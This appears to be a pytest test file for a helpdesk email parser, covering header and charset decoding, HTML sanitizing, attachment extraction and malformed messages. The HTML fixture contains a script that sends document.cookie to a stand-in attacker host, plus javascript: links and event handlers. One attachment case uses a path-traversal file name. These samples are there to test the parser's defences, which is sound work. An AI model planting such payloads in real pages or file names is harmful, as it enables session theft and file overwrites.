"""parse_email: headers, charsets, bodies and attachments of hand-written messages; malformed
input gives problems, not exceptions."""

import base64
import random
import struct
from datetime import UTC, datetime

import pytest

from helpdesk.mail import Address, MailKind, UnparseableEmail, parse_email


def message(*headers: str, body: bytes | str = "Hello", crlf: bool = False) -> bytes:
    """A raw message: the header lines given (From, Subject and Message-ID by default)."""
    defaults = {"from": "From: Jean Dupont <Jean.Dupont@Example.FR>", "subject": "Subject: Hi",
                "message-id": "Message-ID: <m1@example.fr>"}
    given = {line.split(":", 1)[0].lower() for line in headers}
    lines = [*headers, *(line for name, line in defaults.items() if name not in given)]
    data = body.encode() if isinstance(body, str) else body
    end = b"\r\n" if crlf else b"\n"
    return end.join(line.encode() for line in lines) + end + end + data


def multipart(subtype: str, *parts: bytes, headers: tuple[str, ...] = ()) -> bytes:
    """A multipart message whose parts are given as raw bytes (headers, blank line, body)."""
    body = b"".join(b"--XYZ\n" + part + b"\n" for part in parts) + b"--XYZ--\n"
    return message(*headers, "MIME-Version: 1.0",
                   f'Content-Type: multipart/{subtype}; boundary="XYZ"', body=body)


# --- headers ------------------------------------------------------------------------------


def test_a_plain_message_is_read_whole():
    parsed = parse_email(message(
        'From: "Dupont, Jean" <Jean.Dupont@Example.FR>', "To: Support <support@shop.example>",
        "Cc: a@example.com, B <b@example.com>", "Reply-To: replies@example.fr",
        "Subject: Re:  Ma   commande", "Date: Tue, 4 Jun 2024 10:12:00 +0200",
        "Message-ID: <abc@mail.example.fr>", "In-Reply-To: <first@shop.example>",
        "References: <first@shop.example>\n <second@shop.example>",
        "Content-Type: text/plain; charset=utf-8", body="Bonjour,\r\nOù est ma commande ?\n"))
    assert parsed.sender == Address("Dupont, Jean", "jean.dupont@example.fr")
    assert parsed.to == [Address("Support", "support@shop.example")]
    assert parsed.cc == [Address("", "a@example.com"), Address("B", "b@example.com")]
    assert parsed.reply_to == [Address("", "replies@example.fr")]
    assert parsed.subject == "Re: Ma commande"
    assert parsed.date == datetime(2024, 6, 4, 8, 12, tzinfo=UTC)
    assert parsed.message_id == "abc@mail.example.fr"
    assert parsed.in_reply_to == ["first@shop.example"]
    assert parsed.references == ["first@shop.example", "second@shop.example"]
    assert parsed.text == "Bonjour,\nOù est ma commande ?"
    assert parsed.html is None and parsed.attachments == []
    assert parsed.kind is MailKind.NORMAL and parsed.bounce is None
    assert parsed.headers["subject"] == ["Re:  Ma   commande"]
    assert parsed.headers["references"] == ["<first@shop.example> <second@shop.example>"]
    assert parsed.problems == []


def test_rfc2047_headers_are_decoded():
    parsed = parse_email(message(
        "Subject: =?ISO-8859-1?Q?R=E9ponse_=E0_votre?= =?UTF-8?B?IGRlbWFuZGUg4oKs?=",
        "From: =?utf-8?q?Dupont=2C_H=C3=A9l=C3=A8ne?= <helene@example.fr>",
        "To: =?UTF-8?B?5pel5pys?= =?UTF-8?B?6Kqe?= <jp@example.jp>"))
    assert parsed.subject == "Réponse à votre demande €"
    assert parsed.sender == Address("Dupont, Hélène", "helene@example.fr")
    assert parsed.to == [Address("日本語", "jp@example.jp")]
    assert parsed.headers["subject"] == ["Réponse à votre demande €"]


def test_raw_8bit_headers_are_read_as_utf8_or_windows_1252():
    utf8 = parse_email(message("Subject: Déjà vu", "From: Zoë <zoe@example.fr>"))
    latin = parse_email(message("From: x@example.fr").replace(b"Subject: Hi",
                                                               "Subject: Été".encode("cp1252")))
    assert utf8.subject == "Déjà vu" and utf8.sender == Address("Zoë", "zoe@example.fr")
    assert latin.subject == "Été"


def test_a_missing_message_id_is_none_and_noted():
    parsed = parse_email(b"From: a@example.com\nSubject: Hi\n\nHello")
    assert parsed.message_id is None
    assert "no Message-ID header" in parsed.problems


def test_an_invalid_message_id_is_none_and_noted():
    parsed = parse_email(message("Message-ID: not an id"))
    assert parsed.message_id is None
    assert any("invalid Message-ID" in problem for problem in parsed.problems)


def test_dates_are_utc_and_an_unreadable_one_is_noted():
    no_zone = parse_email(message("Date: Tue, 4 Jun 2024 10:12:00 -0000"))
    broken = parse_email(message("Date: the day before yesterday"))
    assert no_zone.date == datetime(2024, 6, 4, 10, 12, tzinfo=UTC)
    assert broken.date is None
    assert any("unreadable Date" in problem for problem in broken.problems)


# --- charsets -----------------------------------------------------------------------------

FRENCH = "Réponse à votre demande : déjà reçu, où ça ? « Très bien » — 50 €"
LATIN_1 = "Réponse à votre demande : déjà reçu, où ça ? « Très bien »"


@pytest.mark.parametrize(("declared", "encoding", "text"), [
    ("utf-8", "utf-8", FRENCH),
    ("windows-1252", "cp1252", FRENCH),
    ("iso-8859-1", "latin-1", LATIN_1),
    ("iso-8859-1", "cp1252", FRENCH),  # the Windows superset sent under the Latin-1 label
    ("iso-8859-15", "iso-8859-15", LATIN_1 + " 50 €"),
    ("us-ascii", "utf-8", FRENCH),  # 8-bit text labelled ASCII
    ("us-ascii", "cp1252", FRENCH),
    (None, "cp1252", FRENCH),
])
def test_french_accents_survive_the_declared_charset(declared, encoding, text):
    charset = f"; charset={declared}" if declared else ""
    parsed = parse_email(message(f"Content-Type: text/plain{charset}",
                                 "Content-Transfer-Encoding: 8bit", body=text.encode(encoding)))
    assert parsed.text == text


def test_latin1_text_in_quoted_printable():
    parsed = parse_email(message("Content-Type: text/plain; charset=ISO-8859-1",
                                 "Content-Transfer-Encoding: quoted-printable",
                                 body=b"Voil=E0, c'est r=E9gl=E9.=\nMerci"))
    assert parsed.text == "Voilà, c'est réglé.Merci"


def test_iso_2022_jp_text():
    body = base64.b64encode("お問い合わせありがとうございます。".encode("iso2022_jp"))
    parsed = parse_email(message("Content-Type: text/plain; charset=ISO-2022-JP",
                                 "Content-Transfer-Encoding: base64", body=body))
    assert parsed.text == "お問い合わせありがとうございます。"


def test_an_unknown_charset_falls_back_and_is_noted():
    parsed = parse_email(message("Content-Type: text/plain; charset=x-made-up",
                                 body="Problème réglé".encode()))
    assert parsed.text == "Problème réglé"
    assert any("unknown charset 'x-made-up'" in problem for problem in parsed.problems)


def test_a_wrong_charset_is_noted():
    parsed = parse_email(message("Content-Type: text/plain; charset=utf-8",
                                 body="Problème réglé".encode("cp1252")))
    assert parsed.text == "Problème réglé"
    assert any("declared 'utf-8', read as cp1252" in problem for problem in parsed.problems)


def test_format_flowed_lines_are_joined():
    parsed = parse_email(message("Content-Type: text/plain; charset=utf-8; format=flowed",
                                 body="A long line that \nwraps here.\n\n-- \nJean"))
    assert parsed.text == "A long line that wraps here.\n\n-- \nJean"


# --- HTML ---------------------------------------------------------------------------------

HOSTILE_HTML = """<html><head><title>Hidden title</title><style>p {color: red}</style>
<script>alert('head')</script></head><body>
<p>Bonjour,</p><p>Voir <a href="javascript:alert(1)" onclick="steal()">ce lien</a> et
<a href="https://shop.example/orders/42">la commande</a>.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="https://tracker.example/p.gif" onerror="alert(2)"><ul><li>un</li><li>deux</li></ul>
</body></html>"""


def test_html_only_mail_is_sanitized_and_made_readable():
    parsed = parse_email(message("Content-Type: text/html; charset=utf-8", body=HOSTILE_HTML))
    assert parsed.html is not None
    for dangerous in ("<script", "javascript:", "onclick", "onerror", "alert", "<style"):
        assert dangerous not in parsed.html.lower()
    assert 'href="https://shop.example/orders/42"' in parsed.html
    assert parsed.text == ("Bonjour,\n\nVoir ce lien et la commande "
                           "<https://shop.example/orders/42>.\n\n- un\n- deux")
    assert "alert" not in parsed.text and "Hidden title" not in parsed.text


def test_html_blockquotes_become_quoted_lines_and_leave_the_visible_text():
    html = ("<div>Merci, c'est reçu.</div><div class=gmail_quote>Le mar. 4 juin 2024 à 10:12, "
            "Support &lt;support@shop.example&gt; a écrit :<blockquote>Votre colis est parti."
            "</blockquote></div>")
    parsed = parse_email(message("Content-Type: text/html; charset=utf-8", body=html))
    assert "> Votre colis est parti." in parsed.text
    assert parsed.visible_text == "Merci, c'est reçu."


def test_alternative_parts_give_plain_text_and_sanitized_html():
    parsed = parse_email(multipart(
        "alternative",
        b"Content-Type: text/plain; charset=utf-8\n\nPlain version",
        b"Content-Type: text/html; charset=utf-8\n\n<p onclick='x()'>HTML <b>version</b></p>"))
    assert parsed.text == "Plain version"
    assert parsed.html == "<p>HTML <b>version</b></p>"


# --- attachments --------------------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(40))


def attachment_part(disposition: str, data: bytes = b"%PDF-1.4 test",
                    content_type: str = "application/pdf") -> bytes:
    encoded = base64.encodebytes(data)
    return (f"Content-Type: {content_type}\nContent-Transfer-Encoding: base64\n"
            f"Content-Disposition: {disposition}\n\n").encode() + encoded


@pytest.mark.parametrize(("disposition", "filename"), [
    ("attachment; filename*=UTF-8''facture%20n%C2%B0%2012.pdf", "facture n° 12.pdf"),
    ("attachment; filename*0*=ISO-8859-1''r%E9sum%E9; filename*1*=%20final.pdf",
     "résumé final.pdf"),
    ('attachment; filename="=?UTF-8?B?Y29tbWFuZGUgw6l0w6kucGRm?="', "commande été.pdf"),
    ('attachment; filename="devis réparé.pdf"', "devis réparé.pdf"),
    ('attachment; filename="..\\\\..\\\\windows\\\\evil.pdf"', "evil.pdf"),
    ("attachment", "attachment.pdf"),
])
def test_attachment_file_names_are_decoded(disposition, filename):
    parsed = parse_email(multipart("mixed", b"Content-Type: text/plain\n\nSee attached",
                                   attachment_part(disposition)))
    [attachment] = parsed.attachments
    assert attachment.filename == filename
    assert attachment.data == b"%PDF-1.4 test" and attachment.content_type == "application/pdf"
    assert attachment.inline is False and attachment.content_id is None
    assert parsed.text == "See attached"


def test_inline_images_keep_their_content_id():
    image = (b"Content-Type: image/png\nContent-Transfer-Encoding: base64\n"
             b"Content-ID: <logo@shop.example>\n\n" + base64.encodebytes(PNG))
    html = b'Content-Type: text/html\n\n<p>Logo: <img src="cid:logo@shop.example"></p>'
    parsed = parse_email(multipart("related", html, image))
    [attachment] = parsed.attachments
    assert attachment.inline is True and attachment.content_id == "logo@shop.example"
    assert attachment.data == PNG and attachment.filename == "attachment.png"
    assert 'src="cid:logo@shop.example"' in (parsed.html or "")


def test_an_attached_message_is_kept_as_an_eml_file():
    inner = b"From: someone@example.com\nSubject: Original\n\nOriginal body"
    parsed = parse_email(multipart("mixed", b"Content-Type: text/plain\n\nForwarding this",
                                   b"Content-Type: message/rfc822\n\n" + inner))
    [attachment] = parsed.attachments
    assert attachment.content_type == "message/rfc822" and attachment.filename.endswith(".eml")
    assert b"Subject: Original" in attachment.data and b"Original body" in attachment.data
    assert parsed.text == "Forwarding this"


def uuencode(data: bytes) -> str:
    import binascii

    lines = [binascii.b2a_uu(data[n:n + 45]).decode() for n in range(0, len(data), 45)]
    return "".join(lines) + "`\n"


def test_a_uuencoded_file_in_the_text_is_cut_out_and_decoded():
    data = b"Order 42: two chairs\n" * 5
    body = f"Here is the file.\n\nbegin 644 order.txt\n{uuencode(data)}end\n\nThanks"
    parsed = parse_email(message("Content-Type: text/plain", body=body))
    [attachment] = parsed.attachments
    assert (attachment.filename, attachment.data) == ("order.txt", data)
    assert attachment.content_type == "text/plain"
    assert parsed.text == "Here is the file.\n\nThanks"


def test_an_x_uuencode_part_is_decoded():
    data = bytes(range(100))
    part = (b"Content-Type: application/octet-stream; name=blob.bin\n"
            b"Content-Transfer-Encoding: x-uuencode\n\n"
            + f"begin 644 blob.bin\n{uuencode(data)}end\n".encode())
    parsed = parse_email(multipart("mixed", b"Content-Type: text/plain\n\nBlob", part))
    assert [(a.filename, a.data) for a in parsed.attachments] == [("blob.bin", data)]


def tnef_object(level: int, name: int, kind: int, data: bytes) -> bytes:
    checksum = sum(data) & 0xFFFF
    return struct.pack("<BHHI", level, name, kind, len(data)) + data + struct.pack("<H", checksum)


def tnef(filename: bytes, content: bytes) -> bytes:
    """A minimal winmail.dat holding one file."""
    return (struct.pack("<IH", 0x223E9F78, 1)
            + tnef_object(1, 0x9006, 0x0008, struct.pack("<I", 0x00010000))
            + tnef_object(2, 0x9002, 0x0006, bytes(14))
            + tnef_object(2, 0x8010, 0x0001, filename + b"\x00")
            + tnef_object(2, 0x800F, 0x0006, content))


def test_a_winmail_dat_is_unpacked():
    part = attachment_part('attachment; filename="winmail.dat"',
                           tnef(b"devis.txt", b"Devis: 120 EUR"), "application/ms-tnef")
    parsed = parse_email(multipart("mixed", b"Content-Type: text/plain\n\nDevis joint", part))
    assert [(a.filename, a.content_type, a.data) for a in parsed.attachments] == [
        ("devis.txt", "text/plain", b"Devis: 120 EUR")]


def test_an_unreadable_winmail_dat_is_kept_and_noted():
    part = attachment_part('attachment; filename="winmail.dat"', b"not tnef at all",
                           "application/ms-tnef")
    parsed = parse_email(multipart("mixed", b"Content-Type: text/plain\n\nDevis joint", part))
    [attachment] = parsed.attachments
    assert (attachment.filename, attachment.data) == ("winmail.dat", b"not tnef at all")
    assert any("TNEF unreadable" in problem for problem in parsed.problems)


# --- malformed input ----------------------------------------------------------------------


def test_garbage_bytes_give_problems_not_an_exception():
    garbage = random.Random(7).randbytes(3000)
    parsed = parse_email(garbage)
    assert parsed.problems
    assert parsed.kind is MailKind.NORMAL


def test_a_multipart_without_its_boundary_is_read_as_text():
    parsed = parse_email(message('Content-Type: multipart/mixed; boundary="never-used"',
                                 body="Just text, no parts"))
    assert parsed.text == "Just text, no parts"
    assert any("without readable parts" in problem for problem in parsed.problems)


def test_a_broken_base64_part_is_noted():
    parsed = parse_email(message("Content-Type: text/plain",
                                 "Content-Transfer-Encoding: base64", body="SGVsbG8gd29ybGQ*!"))
    assert parsed.text.startswith("Hello world")
    assert any(problem.startswith("MIME:") for problem in parsed.problems)


def nested(levels: int) -> bytes:
    """A message whose text lies ``levels`` multiparts deep."""
    body = b"Content-Type: text/plain\n\ninnermost"
    for depth in range(levels):
        boundary = f"b{depth}".encode()
        body = (b"Content-Type: multipart/mixed; boundary=" + boundary + b"\n\n--" + boundary
                + b"\n" + body + b"\n--" + boundary + b"--\n")
    return b"From: a@example.com\n" + body


def test_deeply_nested_parts_stop_with_a_problem():
    parsed = parse_email(nested(40))
    assert any("nested deeper" in problem for problem in parsed.problems)


def test_a_bounce_notice_with_a_long_unbroken_word_is_read():
    parsed = parse_email(b"From: MAILER-DAEMON@mx.example.com\nSubject: Undelivered Mail\n\n"
                         + b"a" * 200_000 + b"\n<gone@example.com>: 550 5.1.1 unknown")
    assert parsed.bounce is not None and parsed.bounce.recipients == ["gone@example.com"]


@pytest.mark.parametrize(("raw", "reason"), [
    (nested(3000), "nested too deeply"),
    (b"\x00\x01\x02\x03", "no header, text or attachment"),
    (b"", "the message is empty"),
    (b" \r\n\r\n ", "the message is empty"),
    ("From: a@example.com\n\nHi", "expected the message's bytes, got str"),
])
def test_nothing_readable_raises_with_a_reason(raw, reason):
    with pytest.raises(UnparseableEmail, match=reason):
        parse_email(raw)
